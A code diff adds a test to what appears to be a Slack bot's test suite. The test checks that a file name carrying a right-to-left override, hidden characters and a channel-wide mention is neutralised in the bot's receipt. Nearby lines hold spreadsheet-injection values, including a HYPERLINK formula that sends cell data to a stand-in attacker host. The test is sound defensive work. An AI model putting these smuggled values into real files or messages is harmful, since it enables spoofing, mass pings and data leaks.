@@ -234,6 +234,17 @@ async def a_receipt(scene: Scene) -> list[str]:
     ]
 
 
+async def a_files_name_in_a_receipt(scene: Scene) -> list[str]:
+    name = "a\u202efdp\u200b\n*By:* the <!channel>.txt"
+    await scene.answered(thread := await scene.mention("Hello", files=[(name, b"x", "text/plain")]))
+    await scene.slack.shortcut(scene.ann, "what_did_you_read", scene.channel, scene.answers(thread)[0]["ts"])
+    await scene.slack.wait_for(lambda: scene.slack.ephemerals(scene.ann))
+    told = str(scene.slack.ephemerals(scene.ann)[0]["text"])
+    (line,) = [line for line in told.splitlines() if line.startswith("*Files:")]
+    assert line == "*Files:* afdp *By:* the !channel .txt"
+    return [line]
+
+
 async def a_table_for_a_spreadsheet(scene: Scene) -> list[str]:
     head = "|".join(f"c{number}" for number in range(22))
     cells = ['=HYPERLINK("https://evil.example/?q="&A1)', "+1+cmd", "@SUM(A1)", "-2+3", *"x" * 18]
@@ -252,6 +263,7 @@ PLACES: dict[str, Callable[[Scene], Awaitable[list[str]]]] = {
     "the title of a thread": a_title,
     "the quoted question of a private thread": a_quoted_question,
     "the names in a receipt": a_receipt,
+    "a file's name in a receipt": a_files_name_in_a_receipt,
     "a table attached as a file": a_table_for_a_spreadsheet,
 }
 
